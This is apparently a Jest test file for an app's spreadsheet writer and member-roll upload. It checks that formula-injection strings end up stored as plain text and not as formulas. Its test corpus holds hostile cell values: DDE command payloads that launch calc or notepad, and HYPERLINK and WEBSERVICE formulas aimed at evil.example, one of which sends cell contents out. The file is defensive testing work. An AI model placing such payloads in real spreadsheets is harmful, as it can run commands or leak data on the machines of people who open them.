import { read, type WorkSheet } from "@e965/xlsx"
import { openSheets } from "#cloud/adapters/sheet/sheets"
import { type Members, openMembers } from "../members/community.ts"
import { workbook } from "../members/workbooks.ts"

jest.setTimeout(60_000)

/** What a spreadsheet takes for the beginning of a formula, narrow and full-width; TAB and CR in front of one. */
const beginnings = ["=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠", " =", "\n=", "'=", '"=']
const payloads = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example","点这里")',
  "SUM(A1:A9)",
  'WEBSERVICE("http://evil.example/?"&A1)',
  "2+5+cmd|'/C notepad'!'A1'",
]
const corpus = beginnings.flatMap(beginning => payloads.map(payload => beginning + payload))

/** Every cell of every sheet of a workbook, as a spreadsheet reads it. */
const cellsOf = (bytes: Uint8Array) =>
  Object.values(read(bytes, { cellFormula: true }).Sheets).flatMap((sheet: WorkSheet) =>
    Object.entries(sheet)
      .filter(([place]) => !place.startsWith("!"))
      .map(([, cell]) => cell as { readonly t: string; readonly v?: unknown; readonly f?: string }),
  )
/** A spreadsheet's own line ends and what XML has no place for apart, a text is what was typed. */
const plain = (text: unknown): string => String(text).replaceAll(/[\r\n]+/g, "\n")

describe("threat 20: what looks like a formula", () => {
  test("is text in every workbook that is written, and an amount stays a number", async () => {
    const rows = corpus.map((text, n) => [text, -n - 0.5, n])
    const bytes = await openSheets().write([
      {
        name: "=1+1",
        rows,
        merges: [],
        heading: "=HEADING()",
        headingRow: 0,
        remarks: new Map([[1, { words: "@REMARK()", error: true }]]),
      },
    ])
    const cells = cellsOf(bytes)
    expect(corpus.length).toBeGreaterThanOrEqual(80)
    expect(cells.filter(({ f }) => f !== undefined)).toEqual([])
    expect(cells.filter(({ t }) => t === "n").length).toBe(corpus.length * 2)
    const texts = cells.filter(({ t }) => t === "s").map(({ v }) => plain(v))
    for (const text of [...corpus, "=HEADING()", "@REMARK()"]) expect(texts).toContain(plain(text))
  })

  let here: Members
  beforeAll(async () => {
    here = await openMembers()
  })
  afterAll(() => here.close())

  test("is text in the marked roll that staff fetch and open", async () => {
    const rows = corpus.map((text, n) => ["10号楼", null, String(500 + n), text.trim().slice(0, 30), "不是电话"])
    const file = await here.upload(
      workbook({ 名册: [["楼栋", "单元", "房号", "姓名", "电话"], ...rows] }),
      "=名册.xlsx",
    )
    const { marked } = await here.ask<{ marked?: string }>(here.clerk, "previewRoll", { file })
    const cells = cellsOf(here.files.kept.get(marked ?? "")?.bytes ?? new Uint8Array())
    expect(cells.length).toBeGreaterThan(corpus.length * 3)
    expect(cells.filter(({ f }) => f !== undefined)).toEqual([])
  })
})
